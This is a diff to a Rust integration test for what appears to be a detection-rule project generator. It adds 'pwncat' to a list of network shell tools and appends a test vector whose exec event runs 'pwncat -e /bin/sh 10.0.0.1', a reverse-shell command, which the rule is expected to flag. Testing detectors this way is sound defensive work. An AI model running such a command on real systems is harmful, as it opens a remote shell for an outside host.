@@ -49,6 +49,32 @@ fn new_project_to_a_live_finding(name: &str, lang: &str) {
     assert!(out.status.success(), "{}", text(&out.stderr));
     let project = dir.join(name);
     let id = name.to_ascii_uppercase();
+
+    // The author's edit: one more tool, and a vector saying it must be found.
+    let (source, list) = match lang {
+        "rust" => (
+            "src/lib.rs",
+            r#"const TOOLS: [&str; 4] = ["nc", "ncat", "netcat", "socat"];"#,
+        ),
+        _ => ("app.py", r#"TOOLS = ["nc", "ncat", "netcat", "socat"]"#),
+    };
+    let code = std::fs::read_to_string(project.join(source)).unwrap();
+    assert!(code.contains(list), "the example changed: update this test");
+    let edited = list
+        .replace("4]", "5]")
+        .replace(r#""socat"]"#, r#""socat", "pwncat"]"#);
+    std::fs::write(project.join(source), code.replace(list, &edited)).unwrap();
+    let vectors = project.join(format!("vectors/{name}.jsonl"));
+    let mut cases = std::fs::read_to_string(&vectors).unwrap();
+    cases.push_str(concat!(
+        r#"{"case":"pwncat -e","event":{"eventName":"sched_process_exec","args":["#,
+        r#"{"name":"pathname","type":"const char*","value":"/usr/local/bin/pwncat"},"#,
+        r#"{"name":"argv","type":"const char**","value":["pwncat","-e","/bin/sh","10.0.0.1"]}]},"#,
+        r#""expect":{"findings":[{"tool":"pwncat"}]}}"#,
+        "\n"
+    ));
+    std::fs::write(&vectors, cases).unwrap();
+
     let make = std::process::Command::new("make")
         .args(["-C", project.to_str().unwrap(), "test"])
         // The guest build's target directory: std (built from source on the
@@ -69,7 +95,7 @@ fn new_project_to_a_live_finding(name: &str, lang: &str) {
         text(&make.stderr)
     );
     assert!(
-        stdout.contains(&format!("{id} ({name}.wasm): 5 passed, 0 failed")),
+        stdout.contains(&format!("{id} ({name}.wasm): 6 passed, 0 failed")),
         "{stdout}"
     );
 
